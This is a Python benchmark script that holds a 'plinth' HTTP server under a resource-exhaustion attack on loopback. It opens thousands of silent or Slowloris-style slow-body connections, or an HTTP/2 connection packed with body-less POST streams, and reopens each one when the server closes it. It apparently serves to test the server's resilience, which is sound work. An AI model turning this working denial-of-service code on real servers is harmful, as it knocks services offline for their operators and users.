"""Holds a plinth server under one client's resource attack until killed,
for `make bench` to measure what another client still gets.

usage: attack.py MODE HOST:PORT SOURCE_ADDRESS

- `silent`: 1,500 connections that never send a byte, plus 300 requests
  announcing a 100-byte body and sending one byte; each reopened a second
  after the server closes it.
- `streams`: one HTTP/2 (h2c) connection holding as many `POST` streams
  open as the server allows, none ever sending its body; reopened when
  the server closes it.

Traffic goes only to HOST:PORT (loopback); the script runs until killed.
"""

import asyncio
import struct
import sys

SILENT, SLOW = 1500, 300
# Wait before reopening a closed connection.
REOPEN_AFTER = 1.0
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(text):
    return bytes([len(text)]) + text


# HPACK: :method POST, :scheme http, :path, :authority, content-length: 100
# (static-table names, literal values, no Huffman).
POST_BLOCK = (
    b"\x83\x86" + b"\x04" + literal(b"/v1/hello/count") + b"\x01" + literal(b"localhost") + b"\x0f\x0d" + literal(b"100")
)
# An h2c connection opening 256 such streams (the server refuses those past
# its limit), none ever sending its body.
HELD_STREAMS = PREFACE + frame(0x4, 0, 0) + b"".join(frame(0x1, 0x4, 2 * i + 1, POST_BLOCK) for i in range(256))


async def hold(host, port, source, payload):
    """Keeps one connection open, sending `payload` once; reopens it when closed."""
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
            if payload:
                writer.write(payload)
                await writer.drain()
            while await reader.read(65536):
                pass
            writer.close()
        except OSError:
            pass
        await asyncio.sleep(REOPEN_AFTER)


async def main(mode, target, source):
    host, port = target.rsplit(":", 1)
    port = int(port)
    if mode == "silent":
        slow = b"POST /v1/hello/count HTTP/1.1\r\nhost: x\r\ncontent-length: 100\r\n\r\nx"
        tasks = [hold(host, port, source, b"") for _ in range(SILENT)]
        tasks += [hold(host, port, source, slow) for _ in range(SLOW)]
    elif mode == "streams":
        tasks = [hold(host, port, source, HELD_STREAMS)]
    else:
        sys.exit(f"unknown mode {mode!r}; use silent or streams")
    await asyncio.gather(*tasks)


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:4]))
